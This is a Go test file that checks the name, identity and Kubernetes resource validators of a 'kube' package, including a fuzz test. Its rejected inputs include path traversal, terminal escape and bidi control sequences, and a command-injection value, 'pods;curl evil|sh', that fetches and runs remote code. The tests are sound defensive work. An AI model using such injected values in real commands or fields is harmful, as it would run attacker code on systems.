package kube_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/listwatch/listwatch/kube"
)

func TestCheckName(t *testing.T) {
	for _, name := range []string{"", "a", "web-0", "system:controller:job", "A_b.c", "--kubeconfig=x", "ä", "a b", "10.0.0.1", strings.Repeat("x", 1024)} {
		if err := kube.CheckName(name); err != nil || kube.CleanName(name) != name {
			t.Errorf("%.40q: %v, cleaned %.40q", name, err, kube.CleanName(name))
		}
	}
	for _, name := range []string{".", "..", "a/b", "/", "a%2Fb", "a\nb", "\x00", "a\x1b]0;x\a", "a\u009b31m", "a\u202eb", "a\u200fb", "\u2066a", "a\ufeff", "a\u2028", "a\xff", "\x7f", strings.Repeat("x", 1025), strings.Repeat("\x1b", 1<<20)} {
		err := kube.CheckName(name)
		if !errors.Is(err, kube.ErrBadName) || len(err.Error()) > 200 {
			t.Errorf("%.40q: %v", name, err)
		}
		clean := kube.CleanName(name)
		if kube.CheckName(clean) == nil || len(clean) > 256 || strings.ContainsAny(clean, "\n\x00\x1b\u009b\u202e/%") {
			t.Errorf("%.40q is cleaned to %q", name, clean)
		}
	}
}

func TestCheckIdentity(t *testing.T) {
	long := strings.Repeat("1", 1025)
	for want, err := range map[string]error{
		"metadata.name:":            kube.CheckIdentity(kube.Key{Name: "a/b"}, "u", "7"),
		"metadata.namespace:":       kube.CheckIdentity(kube.Key{Namespace: "..", Name: "a"}, "u", "7"),
		"metadata.uid:":             kube.CheckIdentity(kube.Key{Name: "a"}, "a\nb", "7"),
		"metadata.resourceVersion:": kube.CheckIdentity(kube.Key{Name: "a"}, "u", kube.Revision(long)),
	} {
		if !errors.Is(err, kube.ErrBadName) || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("got %v, want %s", err, want)
		}
	}
	if err := kube.CheckIdentity(kube.Key{Namespace: "d", Name: "a"}, "a/b", kube.Revision(long[:200])); err != nil {
		t.Error(err)
	}
}

func TestCheckResource(t *testing.T) {
	good := kube.Resource{Group: "example.com", Version: "v1", Plural: "foos", Kind: "Foo"}
	for _, r := range []kube.Resource{good, kube.Pods, {Version: "v1beta1", Plural: "a-b", Kind: "A2"}} {
		if err := kube.CheckResource(r); err != nil {
			t.Errorf("%v: %v", r, err)
		}
	}
	with := func(f func(*kube.Resource)) kube.Resource {
		r := good
		f(&r)
		return r
	}
	for _, r := range []kube.Resource{
		{}, with(func(r *kube.Resource) { r.Group = "a/b" }), with(func(r *kube.Resource) { r.Group = "A.com" }),
		with(func(r *kube.Resource) { r.Version = "" }), with(func(r *kube.Resource) { r.Version = "v1/../.." }),
		with(func(r *kube.Resource) { r.Plural = "pods;curl evil|sh" }), with(func(r *kube.Resource) { r.Plural = "`x`" }),
		with(func(r *kube.Resource) { r.Plural = strings.Repeat("a", 64) }), with(func(r *kube.Resource) { r.Plural = "-o" }),
		with(func(r *kube.Resource) { r.Kind = "Foo\x1b]0;x" }), with(func(r *kube.Resource) { r.Kind = "" }),
	} {
		if err := kube.CheckResource(r); !errors.Is(err, kube.ErrBadName) || strings.ContainsAny(err.Error(), "\x1b\n") {
			t.Errorf("%q: %v", r, err)
		}
	}
}

func FuzzCheckName(f *testing.F) {
	f.Add("a/b\u202e\x1b\xff")
	f.Fuzz(func(t *testing.T, name string) {
		clean := kube.CleanName(name)
		if kube.CheckName(name) == nil {
			if clean != name {
				t.Errorf("%q is cleaned to %q", name, clean)
			}
			return
		}
		if kube.CheckName(clean) == nil || len(clean) > 256 || strings.ContainsAny(clean, "/%\x1b\n") {
			t.Errorf("%q is cleaned to %q", name, clean)
		}
	})
}
